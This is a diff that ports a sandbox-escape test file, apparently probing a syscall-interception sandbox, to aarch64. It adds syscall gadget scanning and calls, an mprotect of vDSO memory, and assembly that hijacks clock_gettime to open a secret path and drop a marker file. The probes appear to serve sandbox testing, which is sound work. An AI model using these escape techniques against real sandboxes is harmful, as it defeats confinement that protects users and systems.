@@ -731,6 +731,7 @@ static int a_exec_host_prog(char *d)
  * (Landlock on the guest thread) stands in the way. Under the seccomp tier
  * every mapping is the guest's own and the call is intercepted as usual.
  */
+#if defined(__x86_64__)
 static long gadget_call(const unsigned char *g, long nr, long a, long b, long c)
 {
 	long ret;
@@ -742,6 +743,25 @@ static long gadget_call(const unsigned char *g, long nr, long a, long b, long c)
 			 : "rcx", "r11", "memory", "cc");
 	return ret;
 }
+#elif defined(__aarch64__)
+static long gadget_call(const unsigned char *g, long nr, long a, long b, long c)
+{
+	register long x8 __asm__("x8") = nr;
+	register long x0 __asm__("x0") = a;
+	register long x1 __asm__("x1") = b;
+	register long x2 __asm__("x2") = c;
+	register long x3 __asm__("x3") = 0;
+	register const unsigned char *x16 __asm__("x16") = g;
+	/* blr: the gadget's ret comes back through x30 */
+	__asm__ volatile("blr x16"
+			 : "+r"(x0), "+r"(x16)
+			 : "r"(x8), "r"(x1), "r"(x2), "r"(x3)
+			 : "x30", "x17", "memory", "cc");
+	return x0;
+}
+#else
+#error "escape.c: no gadget call for this architecture"
+#endif
 
 /* The first `syscall; ret` in executable memory the guest did not map
  * (/proc/self/maps lists the guest's own program first), or NULL. */
@@ -760,6 +780,7 @@ static const unsigned char *foreign_gadget(void)
 		if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || perms[0] != 'r' || perms[2] != 'x' ||
 		    strstr(line, "[vsyscall]") || (self[0] && strstr(line, self)))
 			continue;
+#if defined(__x86_64__)
 		for (unsigned long p = lo; p + 3 <= hi; p++) {
 			const unsigned char *g = (const unsigned char *)p;
 			if (g[0] == 0x0f && g[1] == 0x05 && g[2] == 0xc3) {
@@ -767,6 +788,16 @@ static const unsigned char *foreign_gadget(void)
 				break;
 			}
 		}
+#else
+		/* svc #0; ret */
+		for (unsigned long p = lo; p + 8 <= hi; p += 4) {
+			const uint32_t *g = (const uint32_t *)p;
+			if (g[0] == 0xd4000001 && g[1] == 0xd65f03c0) {
+				found = (const unsigned char *)g;
+				break;
+			}
+		}
+#endif
 	}
 	fclose(maps);
 	return found;
@@ -852,6 +883,7 @@ static int a_syscall_gadget(char *d)
 static char g_marker_path[1100];
 static volatile long g_hijack_runs, g_hijack_opened;
 
+#if defined(__x86_64__)
 extern char hijack_code[];
 __asm__(".text\n"
 	".globl hijack_code\n"
@@ -891,6 +923,58 @@ __asm__(".text\n"
 	"	pop %rax\n"
 	"	syscall\n"
 	"	ret\n");
+#else
+extern char hijack_code[];
+__asm__(".text\n"
+	".globl hijack_code\n"
+	".p2align 2\n"
+	"hijack_code:\n"
+	"	stp x29, x30, [sp, #-48]!\n"
+	"	stp x0, x1, [sp, #16]\n"
+	"	stp x19, x20, [sp, #32]\n"
+	"	adrp x19, g_hijack_runs\n"
+	"	add x19, x19, :lo12:g_hijack_runs\n"
+	"2:	ldxr x20, [x19]\n"
+	"	add x20, x20, #1\n"
+	"	stxr w9, x20, [x19]\n"
+	"	cbnz w9, 2b\n"
+	"	mov x0, #-100\n"
+	"	adrp x1, g_secret_path\n"
+	"	add x1, x1, :lo12:g_secret_path\n"
+	"	mov x2, #0\n"
+	"	movn x8, #0\n" /* x8 = 56 (openat) without `mov x8,#nr; svc` for the rewriter */
+	"	add x8, x8, #57\n"
+	"	svc #0\n"
+	"	tbnz x0, #63, 1f\n"
+	"	adrp x19, g_hijack_opened\n"
+	"	add x19, x19, :lo12:g_hijack_opened\n"
+	"3:	ldxr x20, [x19]\n"
+	"	add x20, x20, #1\n"
+	"	stxr w9, x20, [x19]\n"
+	"	cbnz w9, 3b\n"
+	"	movn x8, #0\n"
+	"	add x8, x8, #58\n" /* close */
+	"	svc #0\n"
+	"	mov x0, #-100\n"
+	"	adrp x1, g_marker_path\n"
+	"	add x1, x1, :lo12:g_marker_path\n"
+	"	mov x2, #0x41\n" /* O_WRONLY|O_CREAT */
+	"	mov x3, #0644\n"
+	"	movn x8, #0\n"
+	"	add x8, x8, #57\n"
+	"	svc #0\n"
+	"	tbnz x0, #63, 1f\n"
+	"	movn x8, #0\n"
+	"	add x8, x8, #58\n"
+	"	svc #0\n"
+	"1:	ldp x0, x1, [sp, #16]\n"
+	"	ldp x19, x20, [sp, #32]\n"
+	"	ldp x29, x30, [sp], #48\n"
+	"	movn x8, #0\n"
+	"	add x8, x8, #114\n" /* clock_gettime */
+	"	svc #0\n"
+	"	ret\n");
+#endif
 
 /* The address of a symbol in the vDSO (section headers are part of the
  * image), or NULL. */
@@ -921,7 +1005,9 @@ static int a_hijack_kbox_threads(char *d)
 	int inproc = mode && (strcmp(mode, "trap") == 0 || strcmp(mode, "rewrite") == 0);
 	unsigned char *fn = vdso_sym("__vdso_clock_gettime");
 	const unsigned char *g = foreign_gadget();
+#if defined(__x86_64__)
 	unsigned char stub[12], saved[12];
+#endif
 	unsigned long page;
 	int memfd, esc = 0;
 	long r;
@@ -943,6 +1029,7 @@ static int a_hijack_kbox_threads(char *d)
 	r = gadget_call(g, SYS_mprotect, (long)page, 8192, PROT_READ | PROT_WRITE | PROT_EXEC);
 	if (r != 0)
 		return addf(d, "mprotect(vDSO) through %p: %s", (const void *)g, en((int)-r)), 0;
+#if defined(__x86_64__)
 	/* movabs $hijack_code, %rax; jmp *%rax; installed so that a thread
 	 * entering meanwhile spins on `jmp .` instead of running half a stub */
 	stub[0] = 0x48;
@@ -961,6 +1048,31 @@ static int a_hijack_kbox_threads(char *d)
 	__atomic_store_n((uint16_t *)fn, 0xfeeb, __ATOMIC_SEQ_CST);
 	memcpy(fn + 2, saved + 2, sizeof saved - 2);
 	__atomic_store_n((uint16_t *)fn, *(uint16_t *)saved, __ATOMIC_SEQ_CST);
+#else
+	/* ldr x16, #8; br x16; .quad hijack_code; installed so that a thread
+	 * entering meanwhile spins on `b .` instead of running half a stub */
+	{
+		uint32_t st[4] = { 0x58000050, 0xd61f0200, 0, 0 }, sv[4];
+		uint64_t target = (uint64_t)(uintptr_t)hijack_code;
+		uint32_t *f = (uint32_t *)fn;
+		memcpy(st + 2, &target, 8);
+		memcpy(sv, f, sizeof sv);
+		__atomic_store_n(f, 0x14000000, __ATOMIC_SEQ_CST); /* b . */
+		__builtin___clear_cache((char *)f, (char *)(f + 4));
+		memcpy(f + 1, st + 1, 12);
+		__builtin___clear_cache((char *)f, (char *)(f + 4));
+		__atomic_store_n(f, st[0], __ATOMIC_SEQ_CST);
+		__builtin___clear_cache((char *)f, (char *)(f + 4));
+		for (volatile unsigned long i = 0; i < 1500000000UL && g_hijack_runs < 2000; i++)
+			;
+		__atomic_store_n(f, 0x14000000, __ATOMIC_SEQ_CST);
+		__builtin___clear_cache((char *)f, (char *)(f + 4));
+		memcpy(f + 1, sv + 1, 12);
+		__builtin___clear_cache((char *)f, (char *)(f + 4));
+		__atomic_store_n(f, sv[0], __ATOMIC_SEQ_CST);
+		__builtin___clear_cache((char *)f, (char *)(f + 4));
+	}
+#endif
 	gadget_call(g, SYS_mprotect, (long)page, 8192, PROT_READ | PROT_EXEC);
 	if (g_hijack_opened > 0)
 		esc = 1;
@@ -1008,6 +1120,7 @@ static int a_proc_fd_identity(char *d)
  * PTRACE_TRACEME through it made kbox's parent the tracer of the guest
  * thread (its wait then hung forever); keyctl reached the user's keyrings.
  */
+#if defined(__x86_64__)
 static const unsigned char *fastpath_gadget(void)
 {
 	static const unsigned char sig[] = { 0x49, 0x8d, 0x7b, 0xff, 0x0f, 0x05 };
@@ -1051,8 +1164,14 @@ static long fastpath_call(const unsigned char *g, long nr, long a, long b, long 
 	return ret;
 }
 
+#endif
+
 static int a_fastpath_any_nr(char *d)
 {
+#if !defined(__x86_64__)
+	/* the signature and the trampoline calling convention are x86_64's */
+	return addf(d, "no x86_64 fast path on this architecture"), 0;
+#else
 	const unsigned char *g = fastpath_gadget();
 	long r1, r2;
 	if (!g)
@@ -1063,6 +1182,7 @@ static int a_fastpath_any_nr(char *d)
 		return addf(d, "through the fast path at %p: keyctl %ld, ptrace(TRACEME) %ld", (const void *)g, r1, r2), 1;
 	return addf(d, "through the fast path at %p: keyctl %s, ptrace(TRACEME) %s", (const void *)g, en((int)-r1),
 		    en((int)-r2)), 0;
+#endif
 }
 
 static const struct {
